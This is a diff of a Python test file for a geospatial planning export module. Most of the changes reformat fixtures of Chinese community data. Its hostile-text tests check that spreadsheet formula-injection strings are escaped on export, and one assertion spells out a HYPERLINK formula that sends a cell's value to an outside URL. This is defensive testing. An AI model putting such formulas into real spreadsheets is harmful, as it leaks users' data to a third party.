@@ -15,9 +15,9 @@ from geopandas.testing import assert_geodataframe_equal
 from shapely.geometry import MultiPolygon, Point, Polygon
 
 import geo
-from geo.render import export, provenance
 from geo.data.cells import spreadsheet_text, xlsx_text
 from geo.i18n import column_label
+from geo.render import export, provenance
 from tests import hostile
 from tests.helpers import INVISIBLE as _INVISIBLE
 from tests.helpers import csv_rows, workbook_cells
@@ -27,52 +27,65 @@ RISKY_NAMES = ['=HYPERLINK("x")', "+86 772", "-老旧小区", "@sum", "\tTab", "
 
 def priority_list() -> pd.DataFrame:
     """A plain priority list: Chinese and risky names, a negative number, nullable columns."""
-    return pd.DataFrame({
-        "program": pd.Series(["新建"] * 6 + ["更新"] * 2, dtype="string"),
-        "rank": pd.Series([1, 2, 3, 4, 5, 6, 1, None], dtype="Int64"),
-        "community_id": pd.Series([f"C00{i}" for i in range(1, 9)], dtype="string"),
-        "name": pd.Series(RISKY_NAMES + ["柳东社区", None], dtype="string"),
-        "district_name": pd.Series(["城中区", "鱼峰区", "柳南区", "柳北区", "柳江区", "城中区", "鱼峰区", None],
-                                   dtype="string"),
-        "priority_score": [0.9, 0.8, 0.7, 0.6, 0.5, 0.4, 0.3, np.nan],
-        "money_left_cny": [-1500.5, 0.0, 10.0, 20.0, 30.0, 40.0, 50.0, 60.0],
-        "eligible": pd.Series([True, False, True, True, True, True, None, False], dtype="boolean"),
-        "served_communities": [True, False, True, False, True, False, True, False],
-        "reasons": [["no_space"], [], None, ["parking", "no_space"], [], [], [], []],
-    })
+    return pd.DataFrame(
+        {
+            "program": pd.Series(["新建"] * 6 + ["更新"] * 2, dtype="string"),
+            "rank": pd.Series([1, 2, 3, 4, 5, 6, 1, None], dtype="Int64"),
+            "community_id": pd.Series([f"C00{i}" for i in range(1, 9)], dtype="string"),
+            "name": pd.Series(RISKY_NAMES + ["柳东社区", None], dtype="string"),
+            "district_name": pd.Series(
+                ["城中区", "鱼峰区", "柳南区", "柳北区", "柳江区", "城中区", "鱼峰区", None], dtype="string"
+            ),
+            "priority_score": [0.9, 0.8, 0.7, 0.6, 0.5, 0.4, 0.3, np.nan],
+            "money_left_cny": [-1500.5, 0.0, 10.0, 20.0, 30.0, 40.0, 50.0, 60.0],
+            "eligible": pd.Series([True, False, True, True, True, True, None, False], dtype="boolean"),
+            "served_communities": [True, False, True, False, True, False, True, False],
+            "reasons": [["no_space"], [], None, ["parking", "no_space"], [], [], [], []],
+        }
+    )
 
 
 def plan_points() -> gpd.GeoDataFrame:
     """Fitness-path sets as points, with Chinese names and missing values of every dtype."""
-    return gpd.GeoDataFrame({
-        "program": pd.Series(["新建", "新建", "更新"], dtype="string"),
-        "rank": pd.Series([1, None, 3], dtype="Int64"),
-        "name": pd.Series(["柳东社区", None, '=HYPERLINK("x")'], dtype="string"),
-        "eligible": pd.Series([True, None, False], dtype="boolean"),
-        "cost_cny": [120000.0, np.nan, 0.1 + 0.2],
-        "population_newly_served": pd.Series([3500, 0, None], dtype="Int64"),
-    }, geometry=[Point(109.41234567890123, 24.3), Point(109.42, 24.31), None], crs="EPSG:4326")
+    return gpd.GeoDataFrame(
+        {
+            "program": pd.Series(["新建", "新建", "更新"], dtype="string"),
+            "rank": pd.Series([1, None, 3], dtype="Int64"),
+            "name": pd.Series(["柳东社区", None, '=HYPERLINK("x")'], dtype="string"),
+            "eligible": pd.Series([True, None, False], dtype="boolean"),
+            "cost_cny": [120000.0, np.nan, 0.1 + 0.2],
+            "population_newly_served": pd.Series([3500, 0, None], dtype="Int64"),
+        },
+        geometry=[Point(109.41234567890123, 24.3), Point(109.42, 24.31), None],
+        crs="EPSG:4326",
+    )
 
 
 def plan_polygons() -> gpd.GeoDataFrame:
     """Communities as a square, a two-part MultiPolygon and a square with a hole."""
     square = Polygon([(109.40, 24.30), (109.41, 24.30), (109.41, 24.31), (109.40, 24.31)])
-    two_parts = MultiPolygon([
-        Polygon([(109.42, 24.30), (109.43, 24.30), (109.43, 24.31), (109.42, 24.31)]),
-        Polygon([(109.44, 24.30), (109.45, 24.30), (109.45, 24.31)]),
-    ])
+    two_parts = MultiPolygon(
+        [
+            Polygon([(109.42, 24.30), (109.43, 24.30), (109.43, 24.31), (109.42, 24.31)]),
+            Polygon([(109.44, 24.30), (109.45, 24.30), (109.45, 24.31)]),
+        ]
+    )
     holed = Polygon(
         [(109.46, 24.32), (109.48, 24.32), (109.48, 24.34), (109.46, 24.34)],
         [[(109.465, 24.325), (109.47, 24.325), (109.47, 24.33), (109.465, 24.33)]],
     )
-    return gpd.GeoDataFrame({
-        "community_id": pd.Series(["C001", "045203", "C003"], dtype="string"),
-        "name": pd.Series(["柳东社区", "河西社区", "Riverside 小区"], dtype="string"),
-        "district_name": pd.Series(["城中区", None, "柳南区"], dtype="string"),
-        "population": pd.Series([3500, None, 120], dtype="Int64"),
-        "priority_score": [0.75, np.nan, -0.25],
-        "sports_land_planned": pd.Series([None, True, False], dtype="boolean"),
-    }, geometry=[square, two_parts, holed], crs="EPSG:4326")
+    return gpd.GeoDataFrame(
+        {
+            "community_id": pd.Series(["C001", "045203", "C003"], dtype="string"),
+            "name": pd.Series(["柳东社区", "河西社区", "Riverside 小区"], dtype="string"),
+            "district_name": pd.Series(["城中区", None, "柳南区"], dtype="string"),
+            "population": pd.Series([3500, None, 120], dtype="Int64"),
+            "priority_score": [0.75, np.nan, -0.25],
+            "sports_land_planned": pd.Series([None, True, False], dtype="boolean"),
+        },
+        geometry=[square, two_parts, holed],
+        crs="EPSG:4326",
+    )
 
 
 # --------------------------------------------------------------------------- CSV
@@ -127,8 +140,10 @@ def test_csv_of_a_geodataframe_writes_longitude_latitude(tmp_path):
     assert pd.isna(table["经度"].iloc[2])
 
     polygons = pd.read_csv(export.to_csv(plan_polygons(), tmp_path / "polygons.csv", lang="en"), encoding="utf-8-sig")
-    inside = [poly.contains(Point(x, y)) for poly, x, y in
-              zip(plan_polygons().geometry, polygons["Longitude"], polygons["Latitude"])]
+    inside = [
+        poly.contains(Point(x, y))
+        for poly, x, y in zip(plan_polygons().geometry, polygons["Longitude"], polygons["Latitude"])
+    ]
     assert all(inside)
 
 
@@ -169,8 +184,10 @@ def test_xlsx_sheets_header_filter_and_widths(tmp_path):
     assert sheet.freeze_panes == "A2"
     assert sheet.auto_filter.ref == "A1:J7"  # 10 columns, header + 6 rows
     assert workbook["更新"].auto_filter.ref == "A1:J3"
-    widths = {c: sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
-              for i, c in enumerate(priority_list().columns, start=1)}
+    widths = {
+        c: sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
+        for i, c in enumerate(priority_list().columns, start=1)
+    }
     assert all(6 <= width <= 60 for width in widths.values())
     assert widths["name"] > widths["rank"]
 
@@ -204,7 +221,7 @@ def test_xlsx_cells_numbers_booleans_and_formulas(tmp_path):
 
 
 def test_xlsx_parameters_sheet(tmp_path):
-    workbook, parameters = write_workbook(tmp_path)
+    workbook, _parameters = write_workbook(tmp_path)
     sheet = workbook["参数"]
     assert [cell.value for cell in sheet[1]] == ["参数", "值"]
     assert sheet.freeze_panes == "A2"
@@ -256,11 +273,15 @@ def test_gpkg_round_trip(tmp_path, frame):
 
 @pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
 def test_machine_formats_join_lists_and_type_plain_columns(tmp_path, suffix):
-    frame = plan_points().assign(
-        reasons=[["parking", "no_space"], [], None],
-        served=[True, False, True],
-        households=np.array([10, 20, 30], dtype="int64"),
-    ).set_index(pd.Index([7, 8, 9]))
+    frame = (
+        plan_points()
+        .assign(
+            reasons=[["parking", "no_space"], [], None],
+            served=[True, False, True],
+            households=np.array([10, 20, 30], dtype="int64"),
+        )
+        .set_index(pd.Index([7, 8, 9]))
+    )
     path = export.export(frame, tmp_path / f"plan{suffix}")
     back = export.read_geojson(path) if suffix == ".geojson" else export.read_gpkg(path)
     expected = plan_points().assign(
@@ -322,10 +343,12 @@ def test_file_sha256_and_version(tmp_path):
 
 
 def test_dates_render_as_dates(tmp_path):
-    frame = pd.DataFrame({
-        "application_date": pd.to_datetime(["2024-03-01", None]),
-        "t": pd.to_datetime(["2024-03-01 10:30", "2024-01-02 00:00"]),
-    })
+    frame = pd.DataFrame(
+        {
+            "application_date": pd.to_datetime(["2024-03-01", None]),
+            "t": pd.to_datetime(["2024-03-01 10:30", "2024-01-02 00:00"]),
+        }
+    )
     table = pd.read_csv(export.to_csv(frame, tmp_path / "d.csv"), encoding="utf-8-sig", dtype=str)
     assert table.iloc[:, 0].tolist() == ["2024-03-01", np.nan]
     assert table.iloc[:, 1].tolist() == ["2024-03-01 10:30:00", "2024-01-02 00:00:00"]
@@ -341,18 +364,20 @@ def test_geojson_keeps_date_like_text_as_text(tmp_path):
     assert_geodataframe_equal(back, frame[[c for c in frame.columns if c != "geometry"] + ["geometry"]])
 
 
-# --------------------------------------------------------------------------- hostile text through every spreadsheet door
+# ----------------------------------------------------------------- hostile text through every spreadsheet door
 
 
 def hostile_frame() -> pd.DataFrame:
     """Every hostile string as a name, negative numbers, and a user column headed by each formula."""
     names = hostile.ALL + ["柳东社区", "#N/A"]
-    frame = pd.DataFrame({
-        "community_id": pd.Series([f"C{i:03d}" for i in range(len(names))], dtype="string"),
-        "name": pd.Series(names, dtype="string"),
-        "population": pd.Series([-i for i in range(len(names))], dtype="Int64"),
-        "eligible": pd.Series([i % 2 == 0 for i in range(len(names))], dtype="boolean"),
-    })
+    frame = pd.DataFrame(
+        {
+            "community_id": pd.Series([f"C{i:03d}" for i in range(len(names))], dtype="string"),
+            "name": pd.Series(names, dtype="string"),
+            "population": pd.Series([-i for i in range(len(names))], dtype="Int64"),
+            "eligible": pd.Series([i % 2 == 0 for i in range(len(names))], dtype="boolean"),
+        }
+    )
     for header in hostile.FORMULA + hostile.TEXT[:2]:
         frame[header] = pd.Series(names[::-1], dtype=object)
     return frame
@@ -363,7 +388,9 @@ def test_csv_export_of_hostile_text(tmp_path):
     path = export.export(frame, tmp_path / "plan.csv")  # the app's download calls export()
     rows = csv_rows(path.read_bytes())
     hostile_headers = hostile.FORMULA + hostile.TEXT[:2]
-    assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [spreadsheet_text(h) for h in hostile_headers]
+    assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [
+        spreadsheet_text(h) for h in hostile_headers
+    ]
     assert rows[0][4 + hostile.FORMULA.index(hostile.FORMULA[6])].startswith("'=HYPERLINK(")
     body = rows[1:]
     assert [row[1] for row in body] == [spreadsheet_text(name) for name in frame["name"]]
@@ -390,11 +417,14 @@ def test_xlsx_export_of_hostile_text(tmp_path):
 
     for title in titles[:-1]:
         rows = sheets[title]
-        assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [xlsx_text(h) for h in sheet_names]
+        assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [
+            xlsx_text(h) for h in sheet_names
+        ]
         assert [row[1] for row in rows[1:]] == [xlsx_text(name) for name in frame["name"]]
         assert [row[2] for row in rows[1:]] == [-i for i in range(len(frame))]
     assert sheets["=1+2"][1 + hostile.ALL.index(hostile.FORMULA[6])][1] == (
-        "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")")
+        "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")'
+    )
 
     written = {row[0]: row[1] for row in sheets["参数"][1:]}
     expected = {xlsx_text(name): xlsx_text(name) for name in hostile.ALL}
